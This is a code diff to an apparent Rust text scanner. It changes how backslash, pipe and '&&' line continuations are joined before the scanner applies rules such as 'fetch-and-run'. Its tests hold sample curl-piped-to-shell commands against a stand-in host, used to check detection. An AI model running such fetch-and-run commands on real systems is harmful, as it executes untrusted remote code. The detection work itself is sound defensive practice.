@@ -1,6 +1,6 @@
 //! One text, against every rule.
 //!
-//! A line that ends in a backslash is read together with the next. A line too long for a person is looked at in pieces that
+//! A line that goes on in the next, as shells see it, is read together with that. A line too long for a person is looked at in pieces that
 //! overlap, so that no text costs more than its length.
 
 use std::collections::BTreeSet;
@@ -66,8 +66,7 @@ pub fn look(
     deadline: Deadline,
     findings: &mut Vec<Finding>,
 ) -> Result<(), OutOfTime> {
-    // Same length as before, so that an offset means the same line.
-    let joined = text.replace("\\\r\n", "   ").replace("\\\n", "  ");
+    let joined = join(text);
     let mut seen = Seen { file, numbers: Lines::new(text), lines: Lines::new(&joined), rules, met: BTreeSet::new() };
     seen.forms(&joined, deadline, findings)?;
     seen.pairs(findings);
@@ -79,6 +78,21 @@ pub fn look(
         findings.push(rules.shape("long-line", file, Some(seen.numbers.number(begin)), evidence));
     }
     Ok(())
+}
+
+/// With lines that go on as one, and as long as before, so that an offset means the same line.
+fn join(text: &str) -> String {
+    let mut joined = String::with_capacity(text.len());
+    for line in text.split_inclusive('\n') {
+        let body = line.trim_end();
+        // A row of a table ends in a bar, too.
+        let is_row = body.trim_start().starts_with('|');
+        let goes_on = body.ends_with('\\') || (!is_row && (body.ends_with('|') || body.ends_with("&&")));
+        let kept = if goes_on { body.strip_suffix('\\').unwrap_or(body) } else { line };
+        joined.push_str(kept);
+        joined.extend(std::iter::repeat_n(' ', line.len() - kept.len()));
+    }
+    joined
 }
 
 struct Seen<'a> {
@@ -160,7 +174,12 @@ mod tests {
     fn a_command_over_several_lines_is_one_command() {
         let text = "first\ncurl -fsSL \\\n  https://x.example/i \\\r\n  | sh\n";
         assert_eq!(found(text), [("fetch-and-run".to_owned(), Some(2))]);
-        assert_eq!(found("curl -O https://x.example/i\n| sh\n"), []);
+        for text in ["curl https://x.example/i |\n  sh\n", "curl -o i https://x.example/i &&\nsh i\n"] {
+            assert_eq!(found(text), [("fetch-and-run".to_owned(), Some(1))], "{text}");
+        }
+        for text in ["curl -O https://x.example/i\n| sh\n", "| needs | curl https://x |\n| shells | sh |\n"] {
+            assert_eq!(found(text), [], "{text}");
+        }
     }
 
     #[test]
